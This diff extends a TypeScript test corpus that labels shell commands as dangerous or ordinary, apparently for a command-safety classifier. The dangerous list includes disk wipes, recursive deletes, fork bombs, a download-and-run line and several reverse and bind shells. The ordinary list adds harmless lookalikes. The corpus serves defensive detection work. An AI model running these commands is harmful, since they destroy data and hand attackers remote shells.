@@ -27,6 +27,8 @@ const DANGEROUS: ReadonlyArray<readonly [string, string]> = [
   ["disk", "parted -s /dev/sdb mklabel gpt"],
   ["disk", "sgdisk --zap-all /dev/sda"],
   ["delete", 'rm -rf "$INSTALL_DIR"/*'],
+  ["delete", "rm -rI ~"],
+  ["delete", "yes | find / -ok rm {} \\;"],
   ["forkbomb", ":(){ :|:& };:"],
   ["forkbomb", "perl -e 'fork while fork'"],
   ["perms", "chmod -R 777 /"],
@@ -43,6 +45,7 @@ const DANGEROUS: ReadonlyArray<readonly [string, string]> = [
   ["rce", "curl -o /tmp/x.sh https://e.example/x.sh && bash /tmp/x.sh"],
   ["reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
   ["reverse-shell", "nc -e /bin/sh 10.0.0.1 4444"],
+  ["reverse-shell", "nc -l -p 4444 -c 'bash -i'"],
   ["reverse-shell", "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr"],
   ["reverse-shell", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"],
   ["reverse-shell", "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"],
@@ -157,6 +160,7 @@ const ORDINARY: readonly string[] = [
   "rsync -e 'ssh -i ~/.ssh/deploy_key' -av dist/ web1:/srv/", "find / -name '*.pyc' -delete", "sudo find /usr/local -name '*~' -delete",
   "find $HOME/Downloads -name '*.part' -mtime +3 -delete", "cat ~/.aws/config.example", "grep -r password_reset src/",
   "code .", "open index.html", "tmux new -s work", "vim src/index.ts", "nano ~/.bashrc", "man rm", "echo 'rm -rf / is dangerous'",
+  "find / -name '*.orig' -ok rm {} \\;", "rm -ri ~/old-drafts", "nc -l -p 8080 -c 'echo ok'", "env $(grep -v '^#' .env | xargs) node server.js",
 ];
 
 export function commandCorpus(): LabelledRow[] {
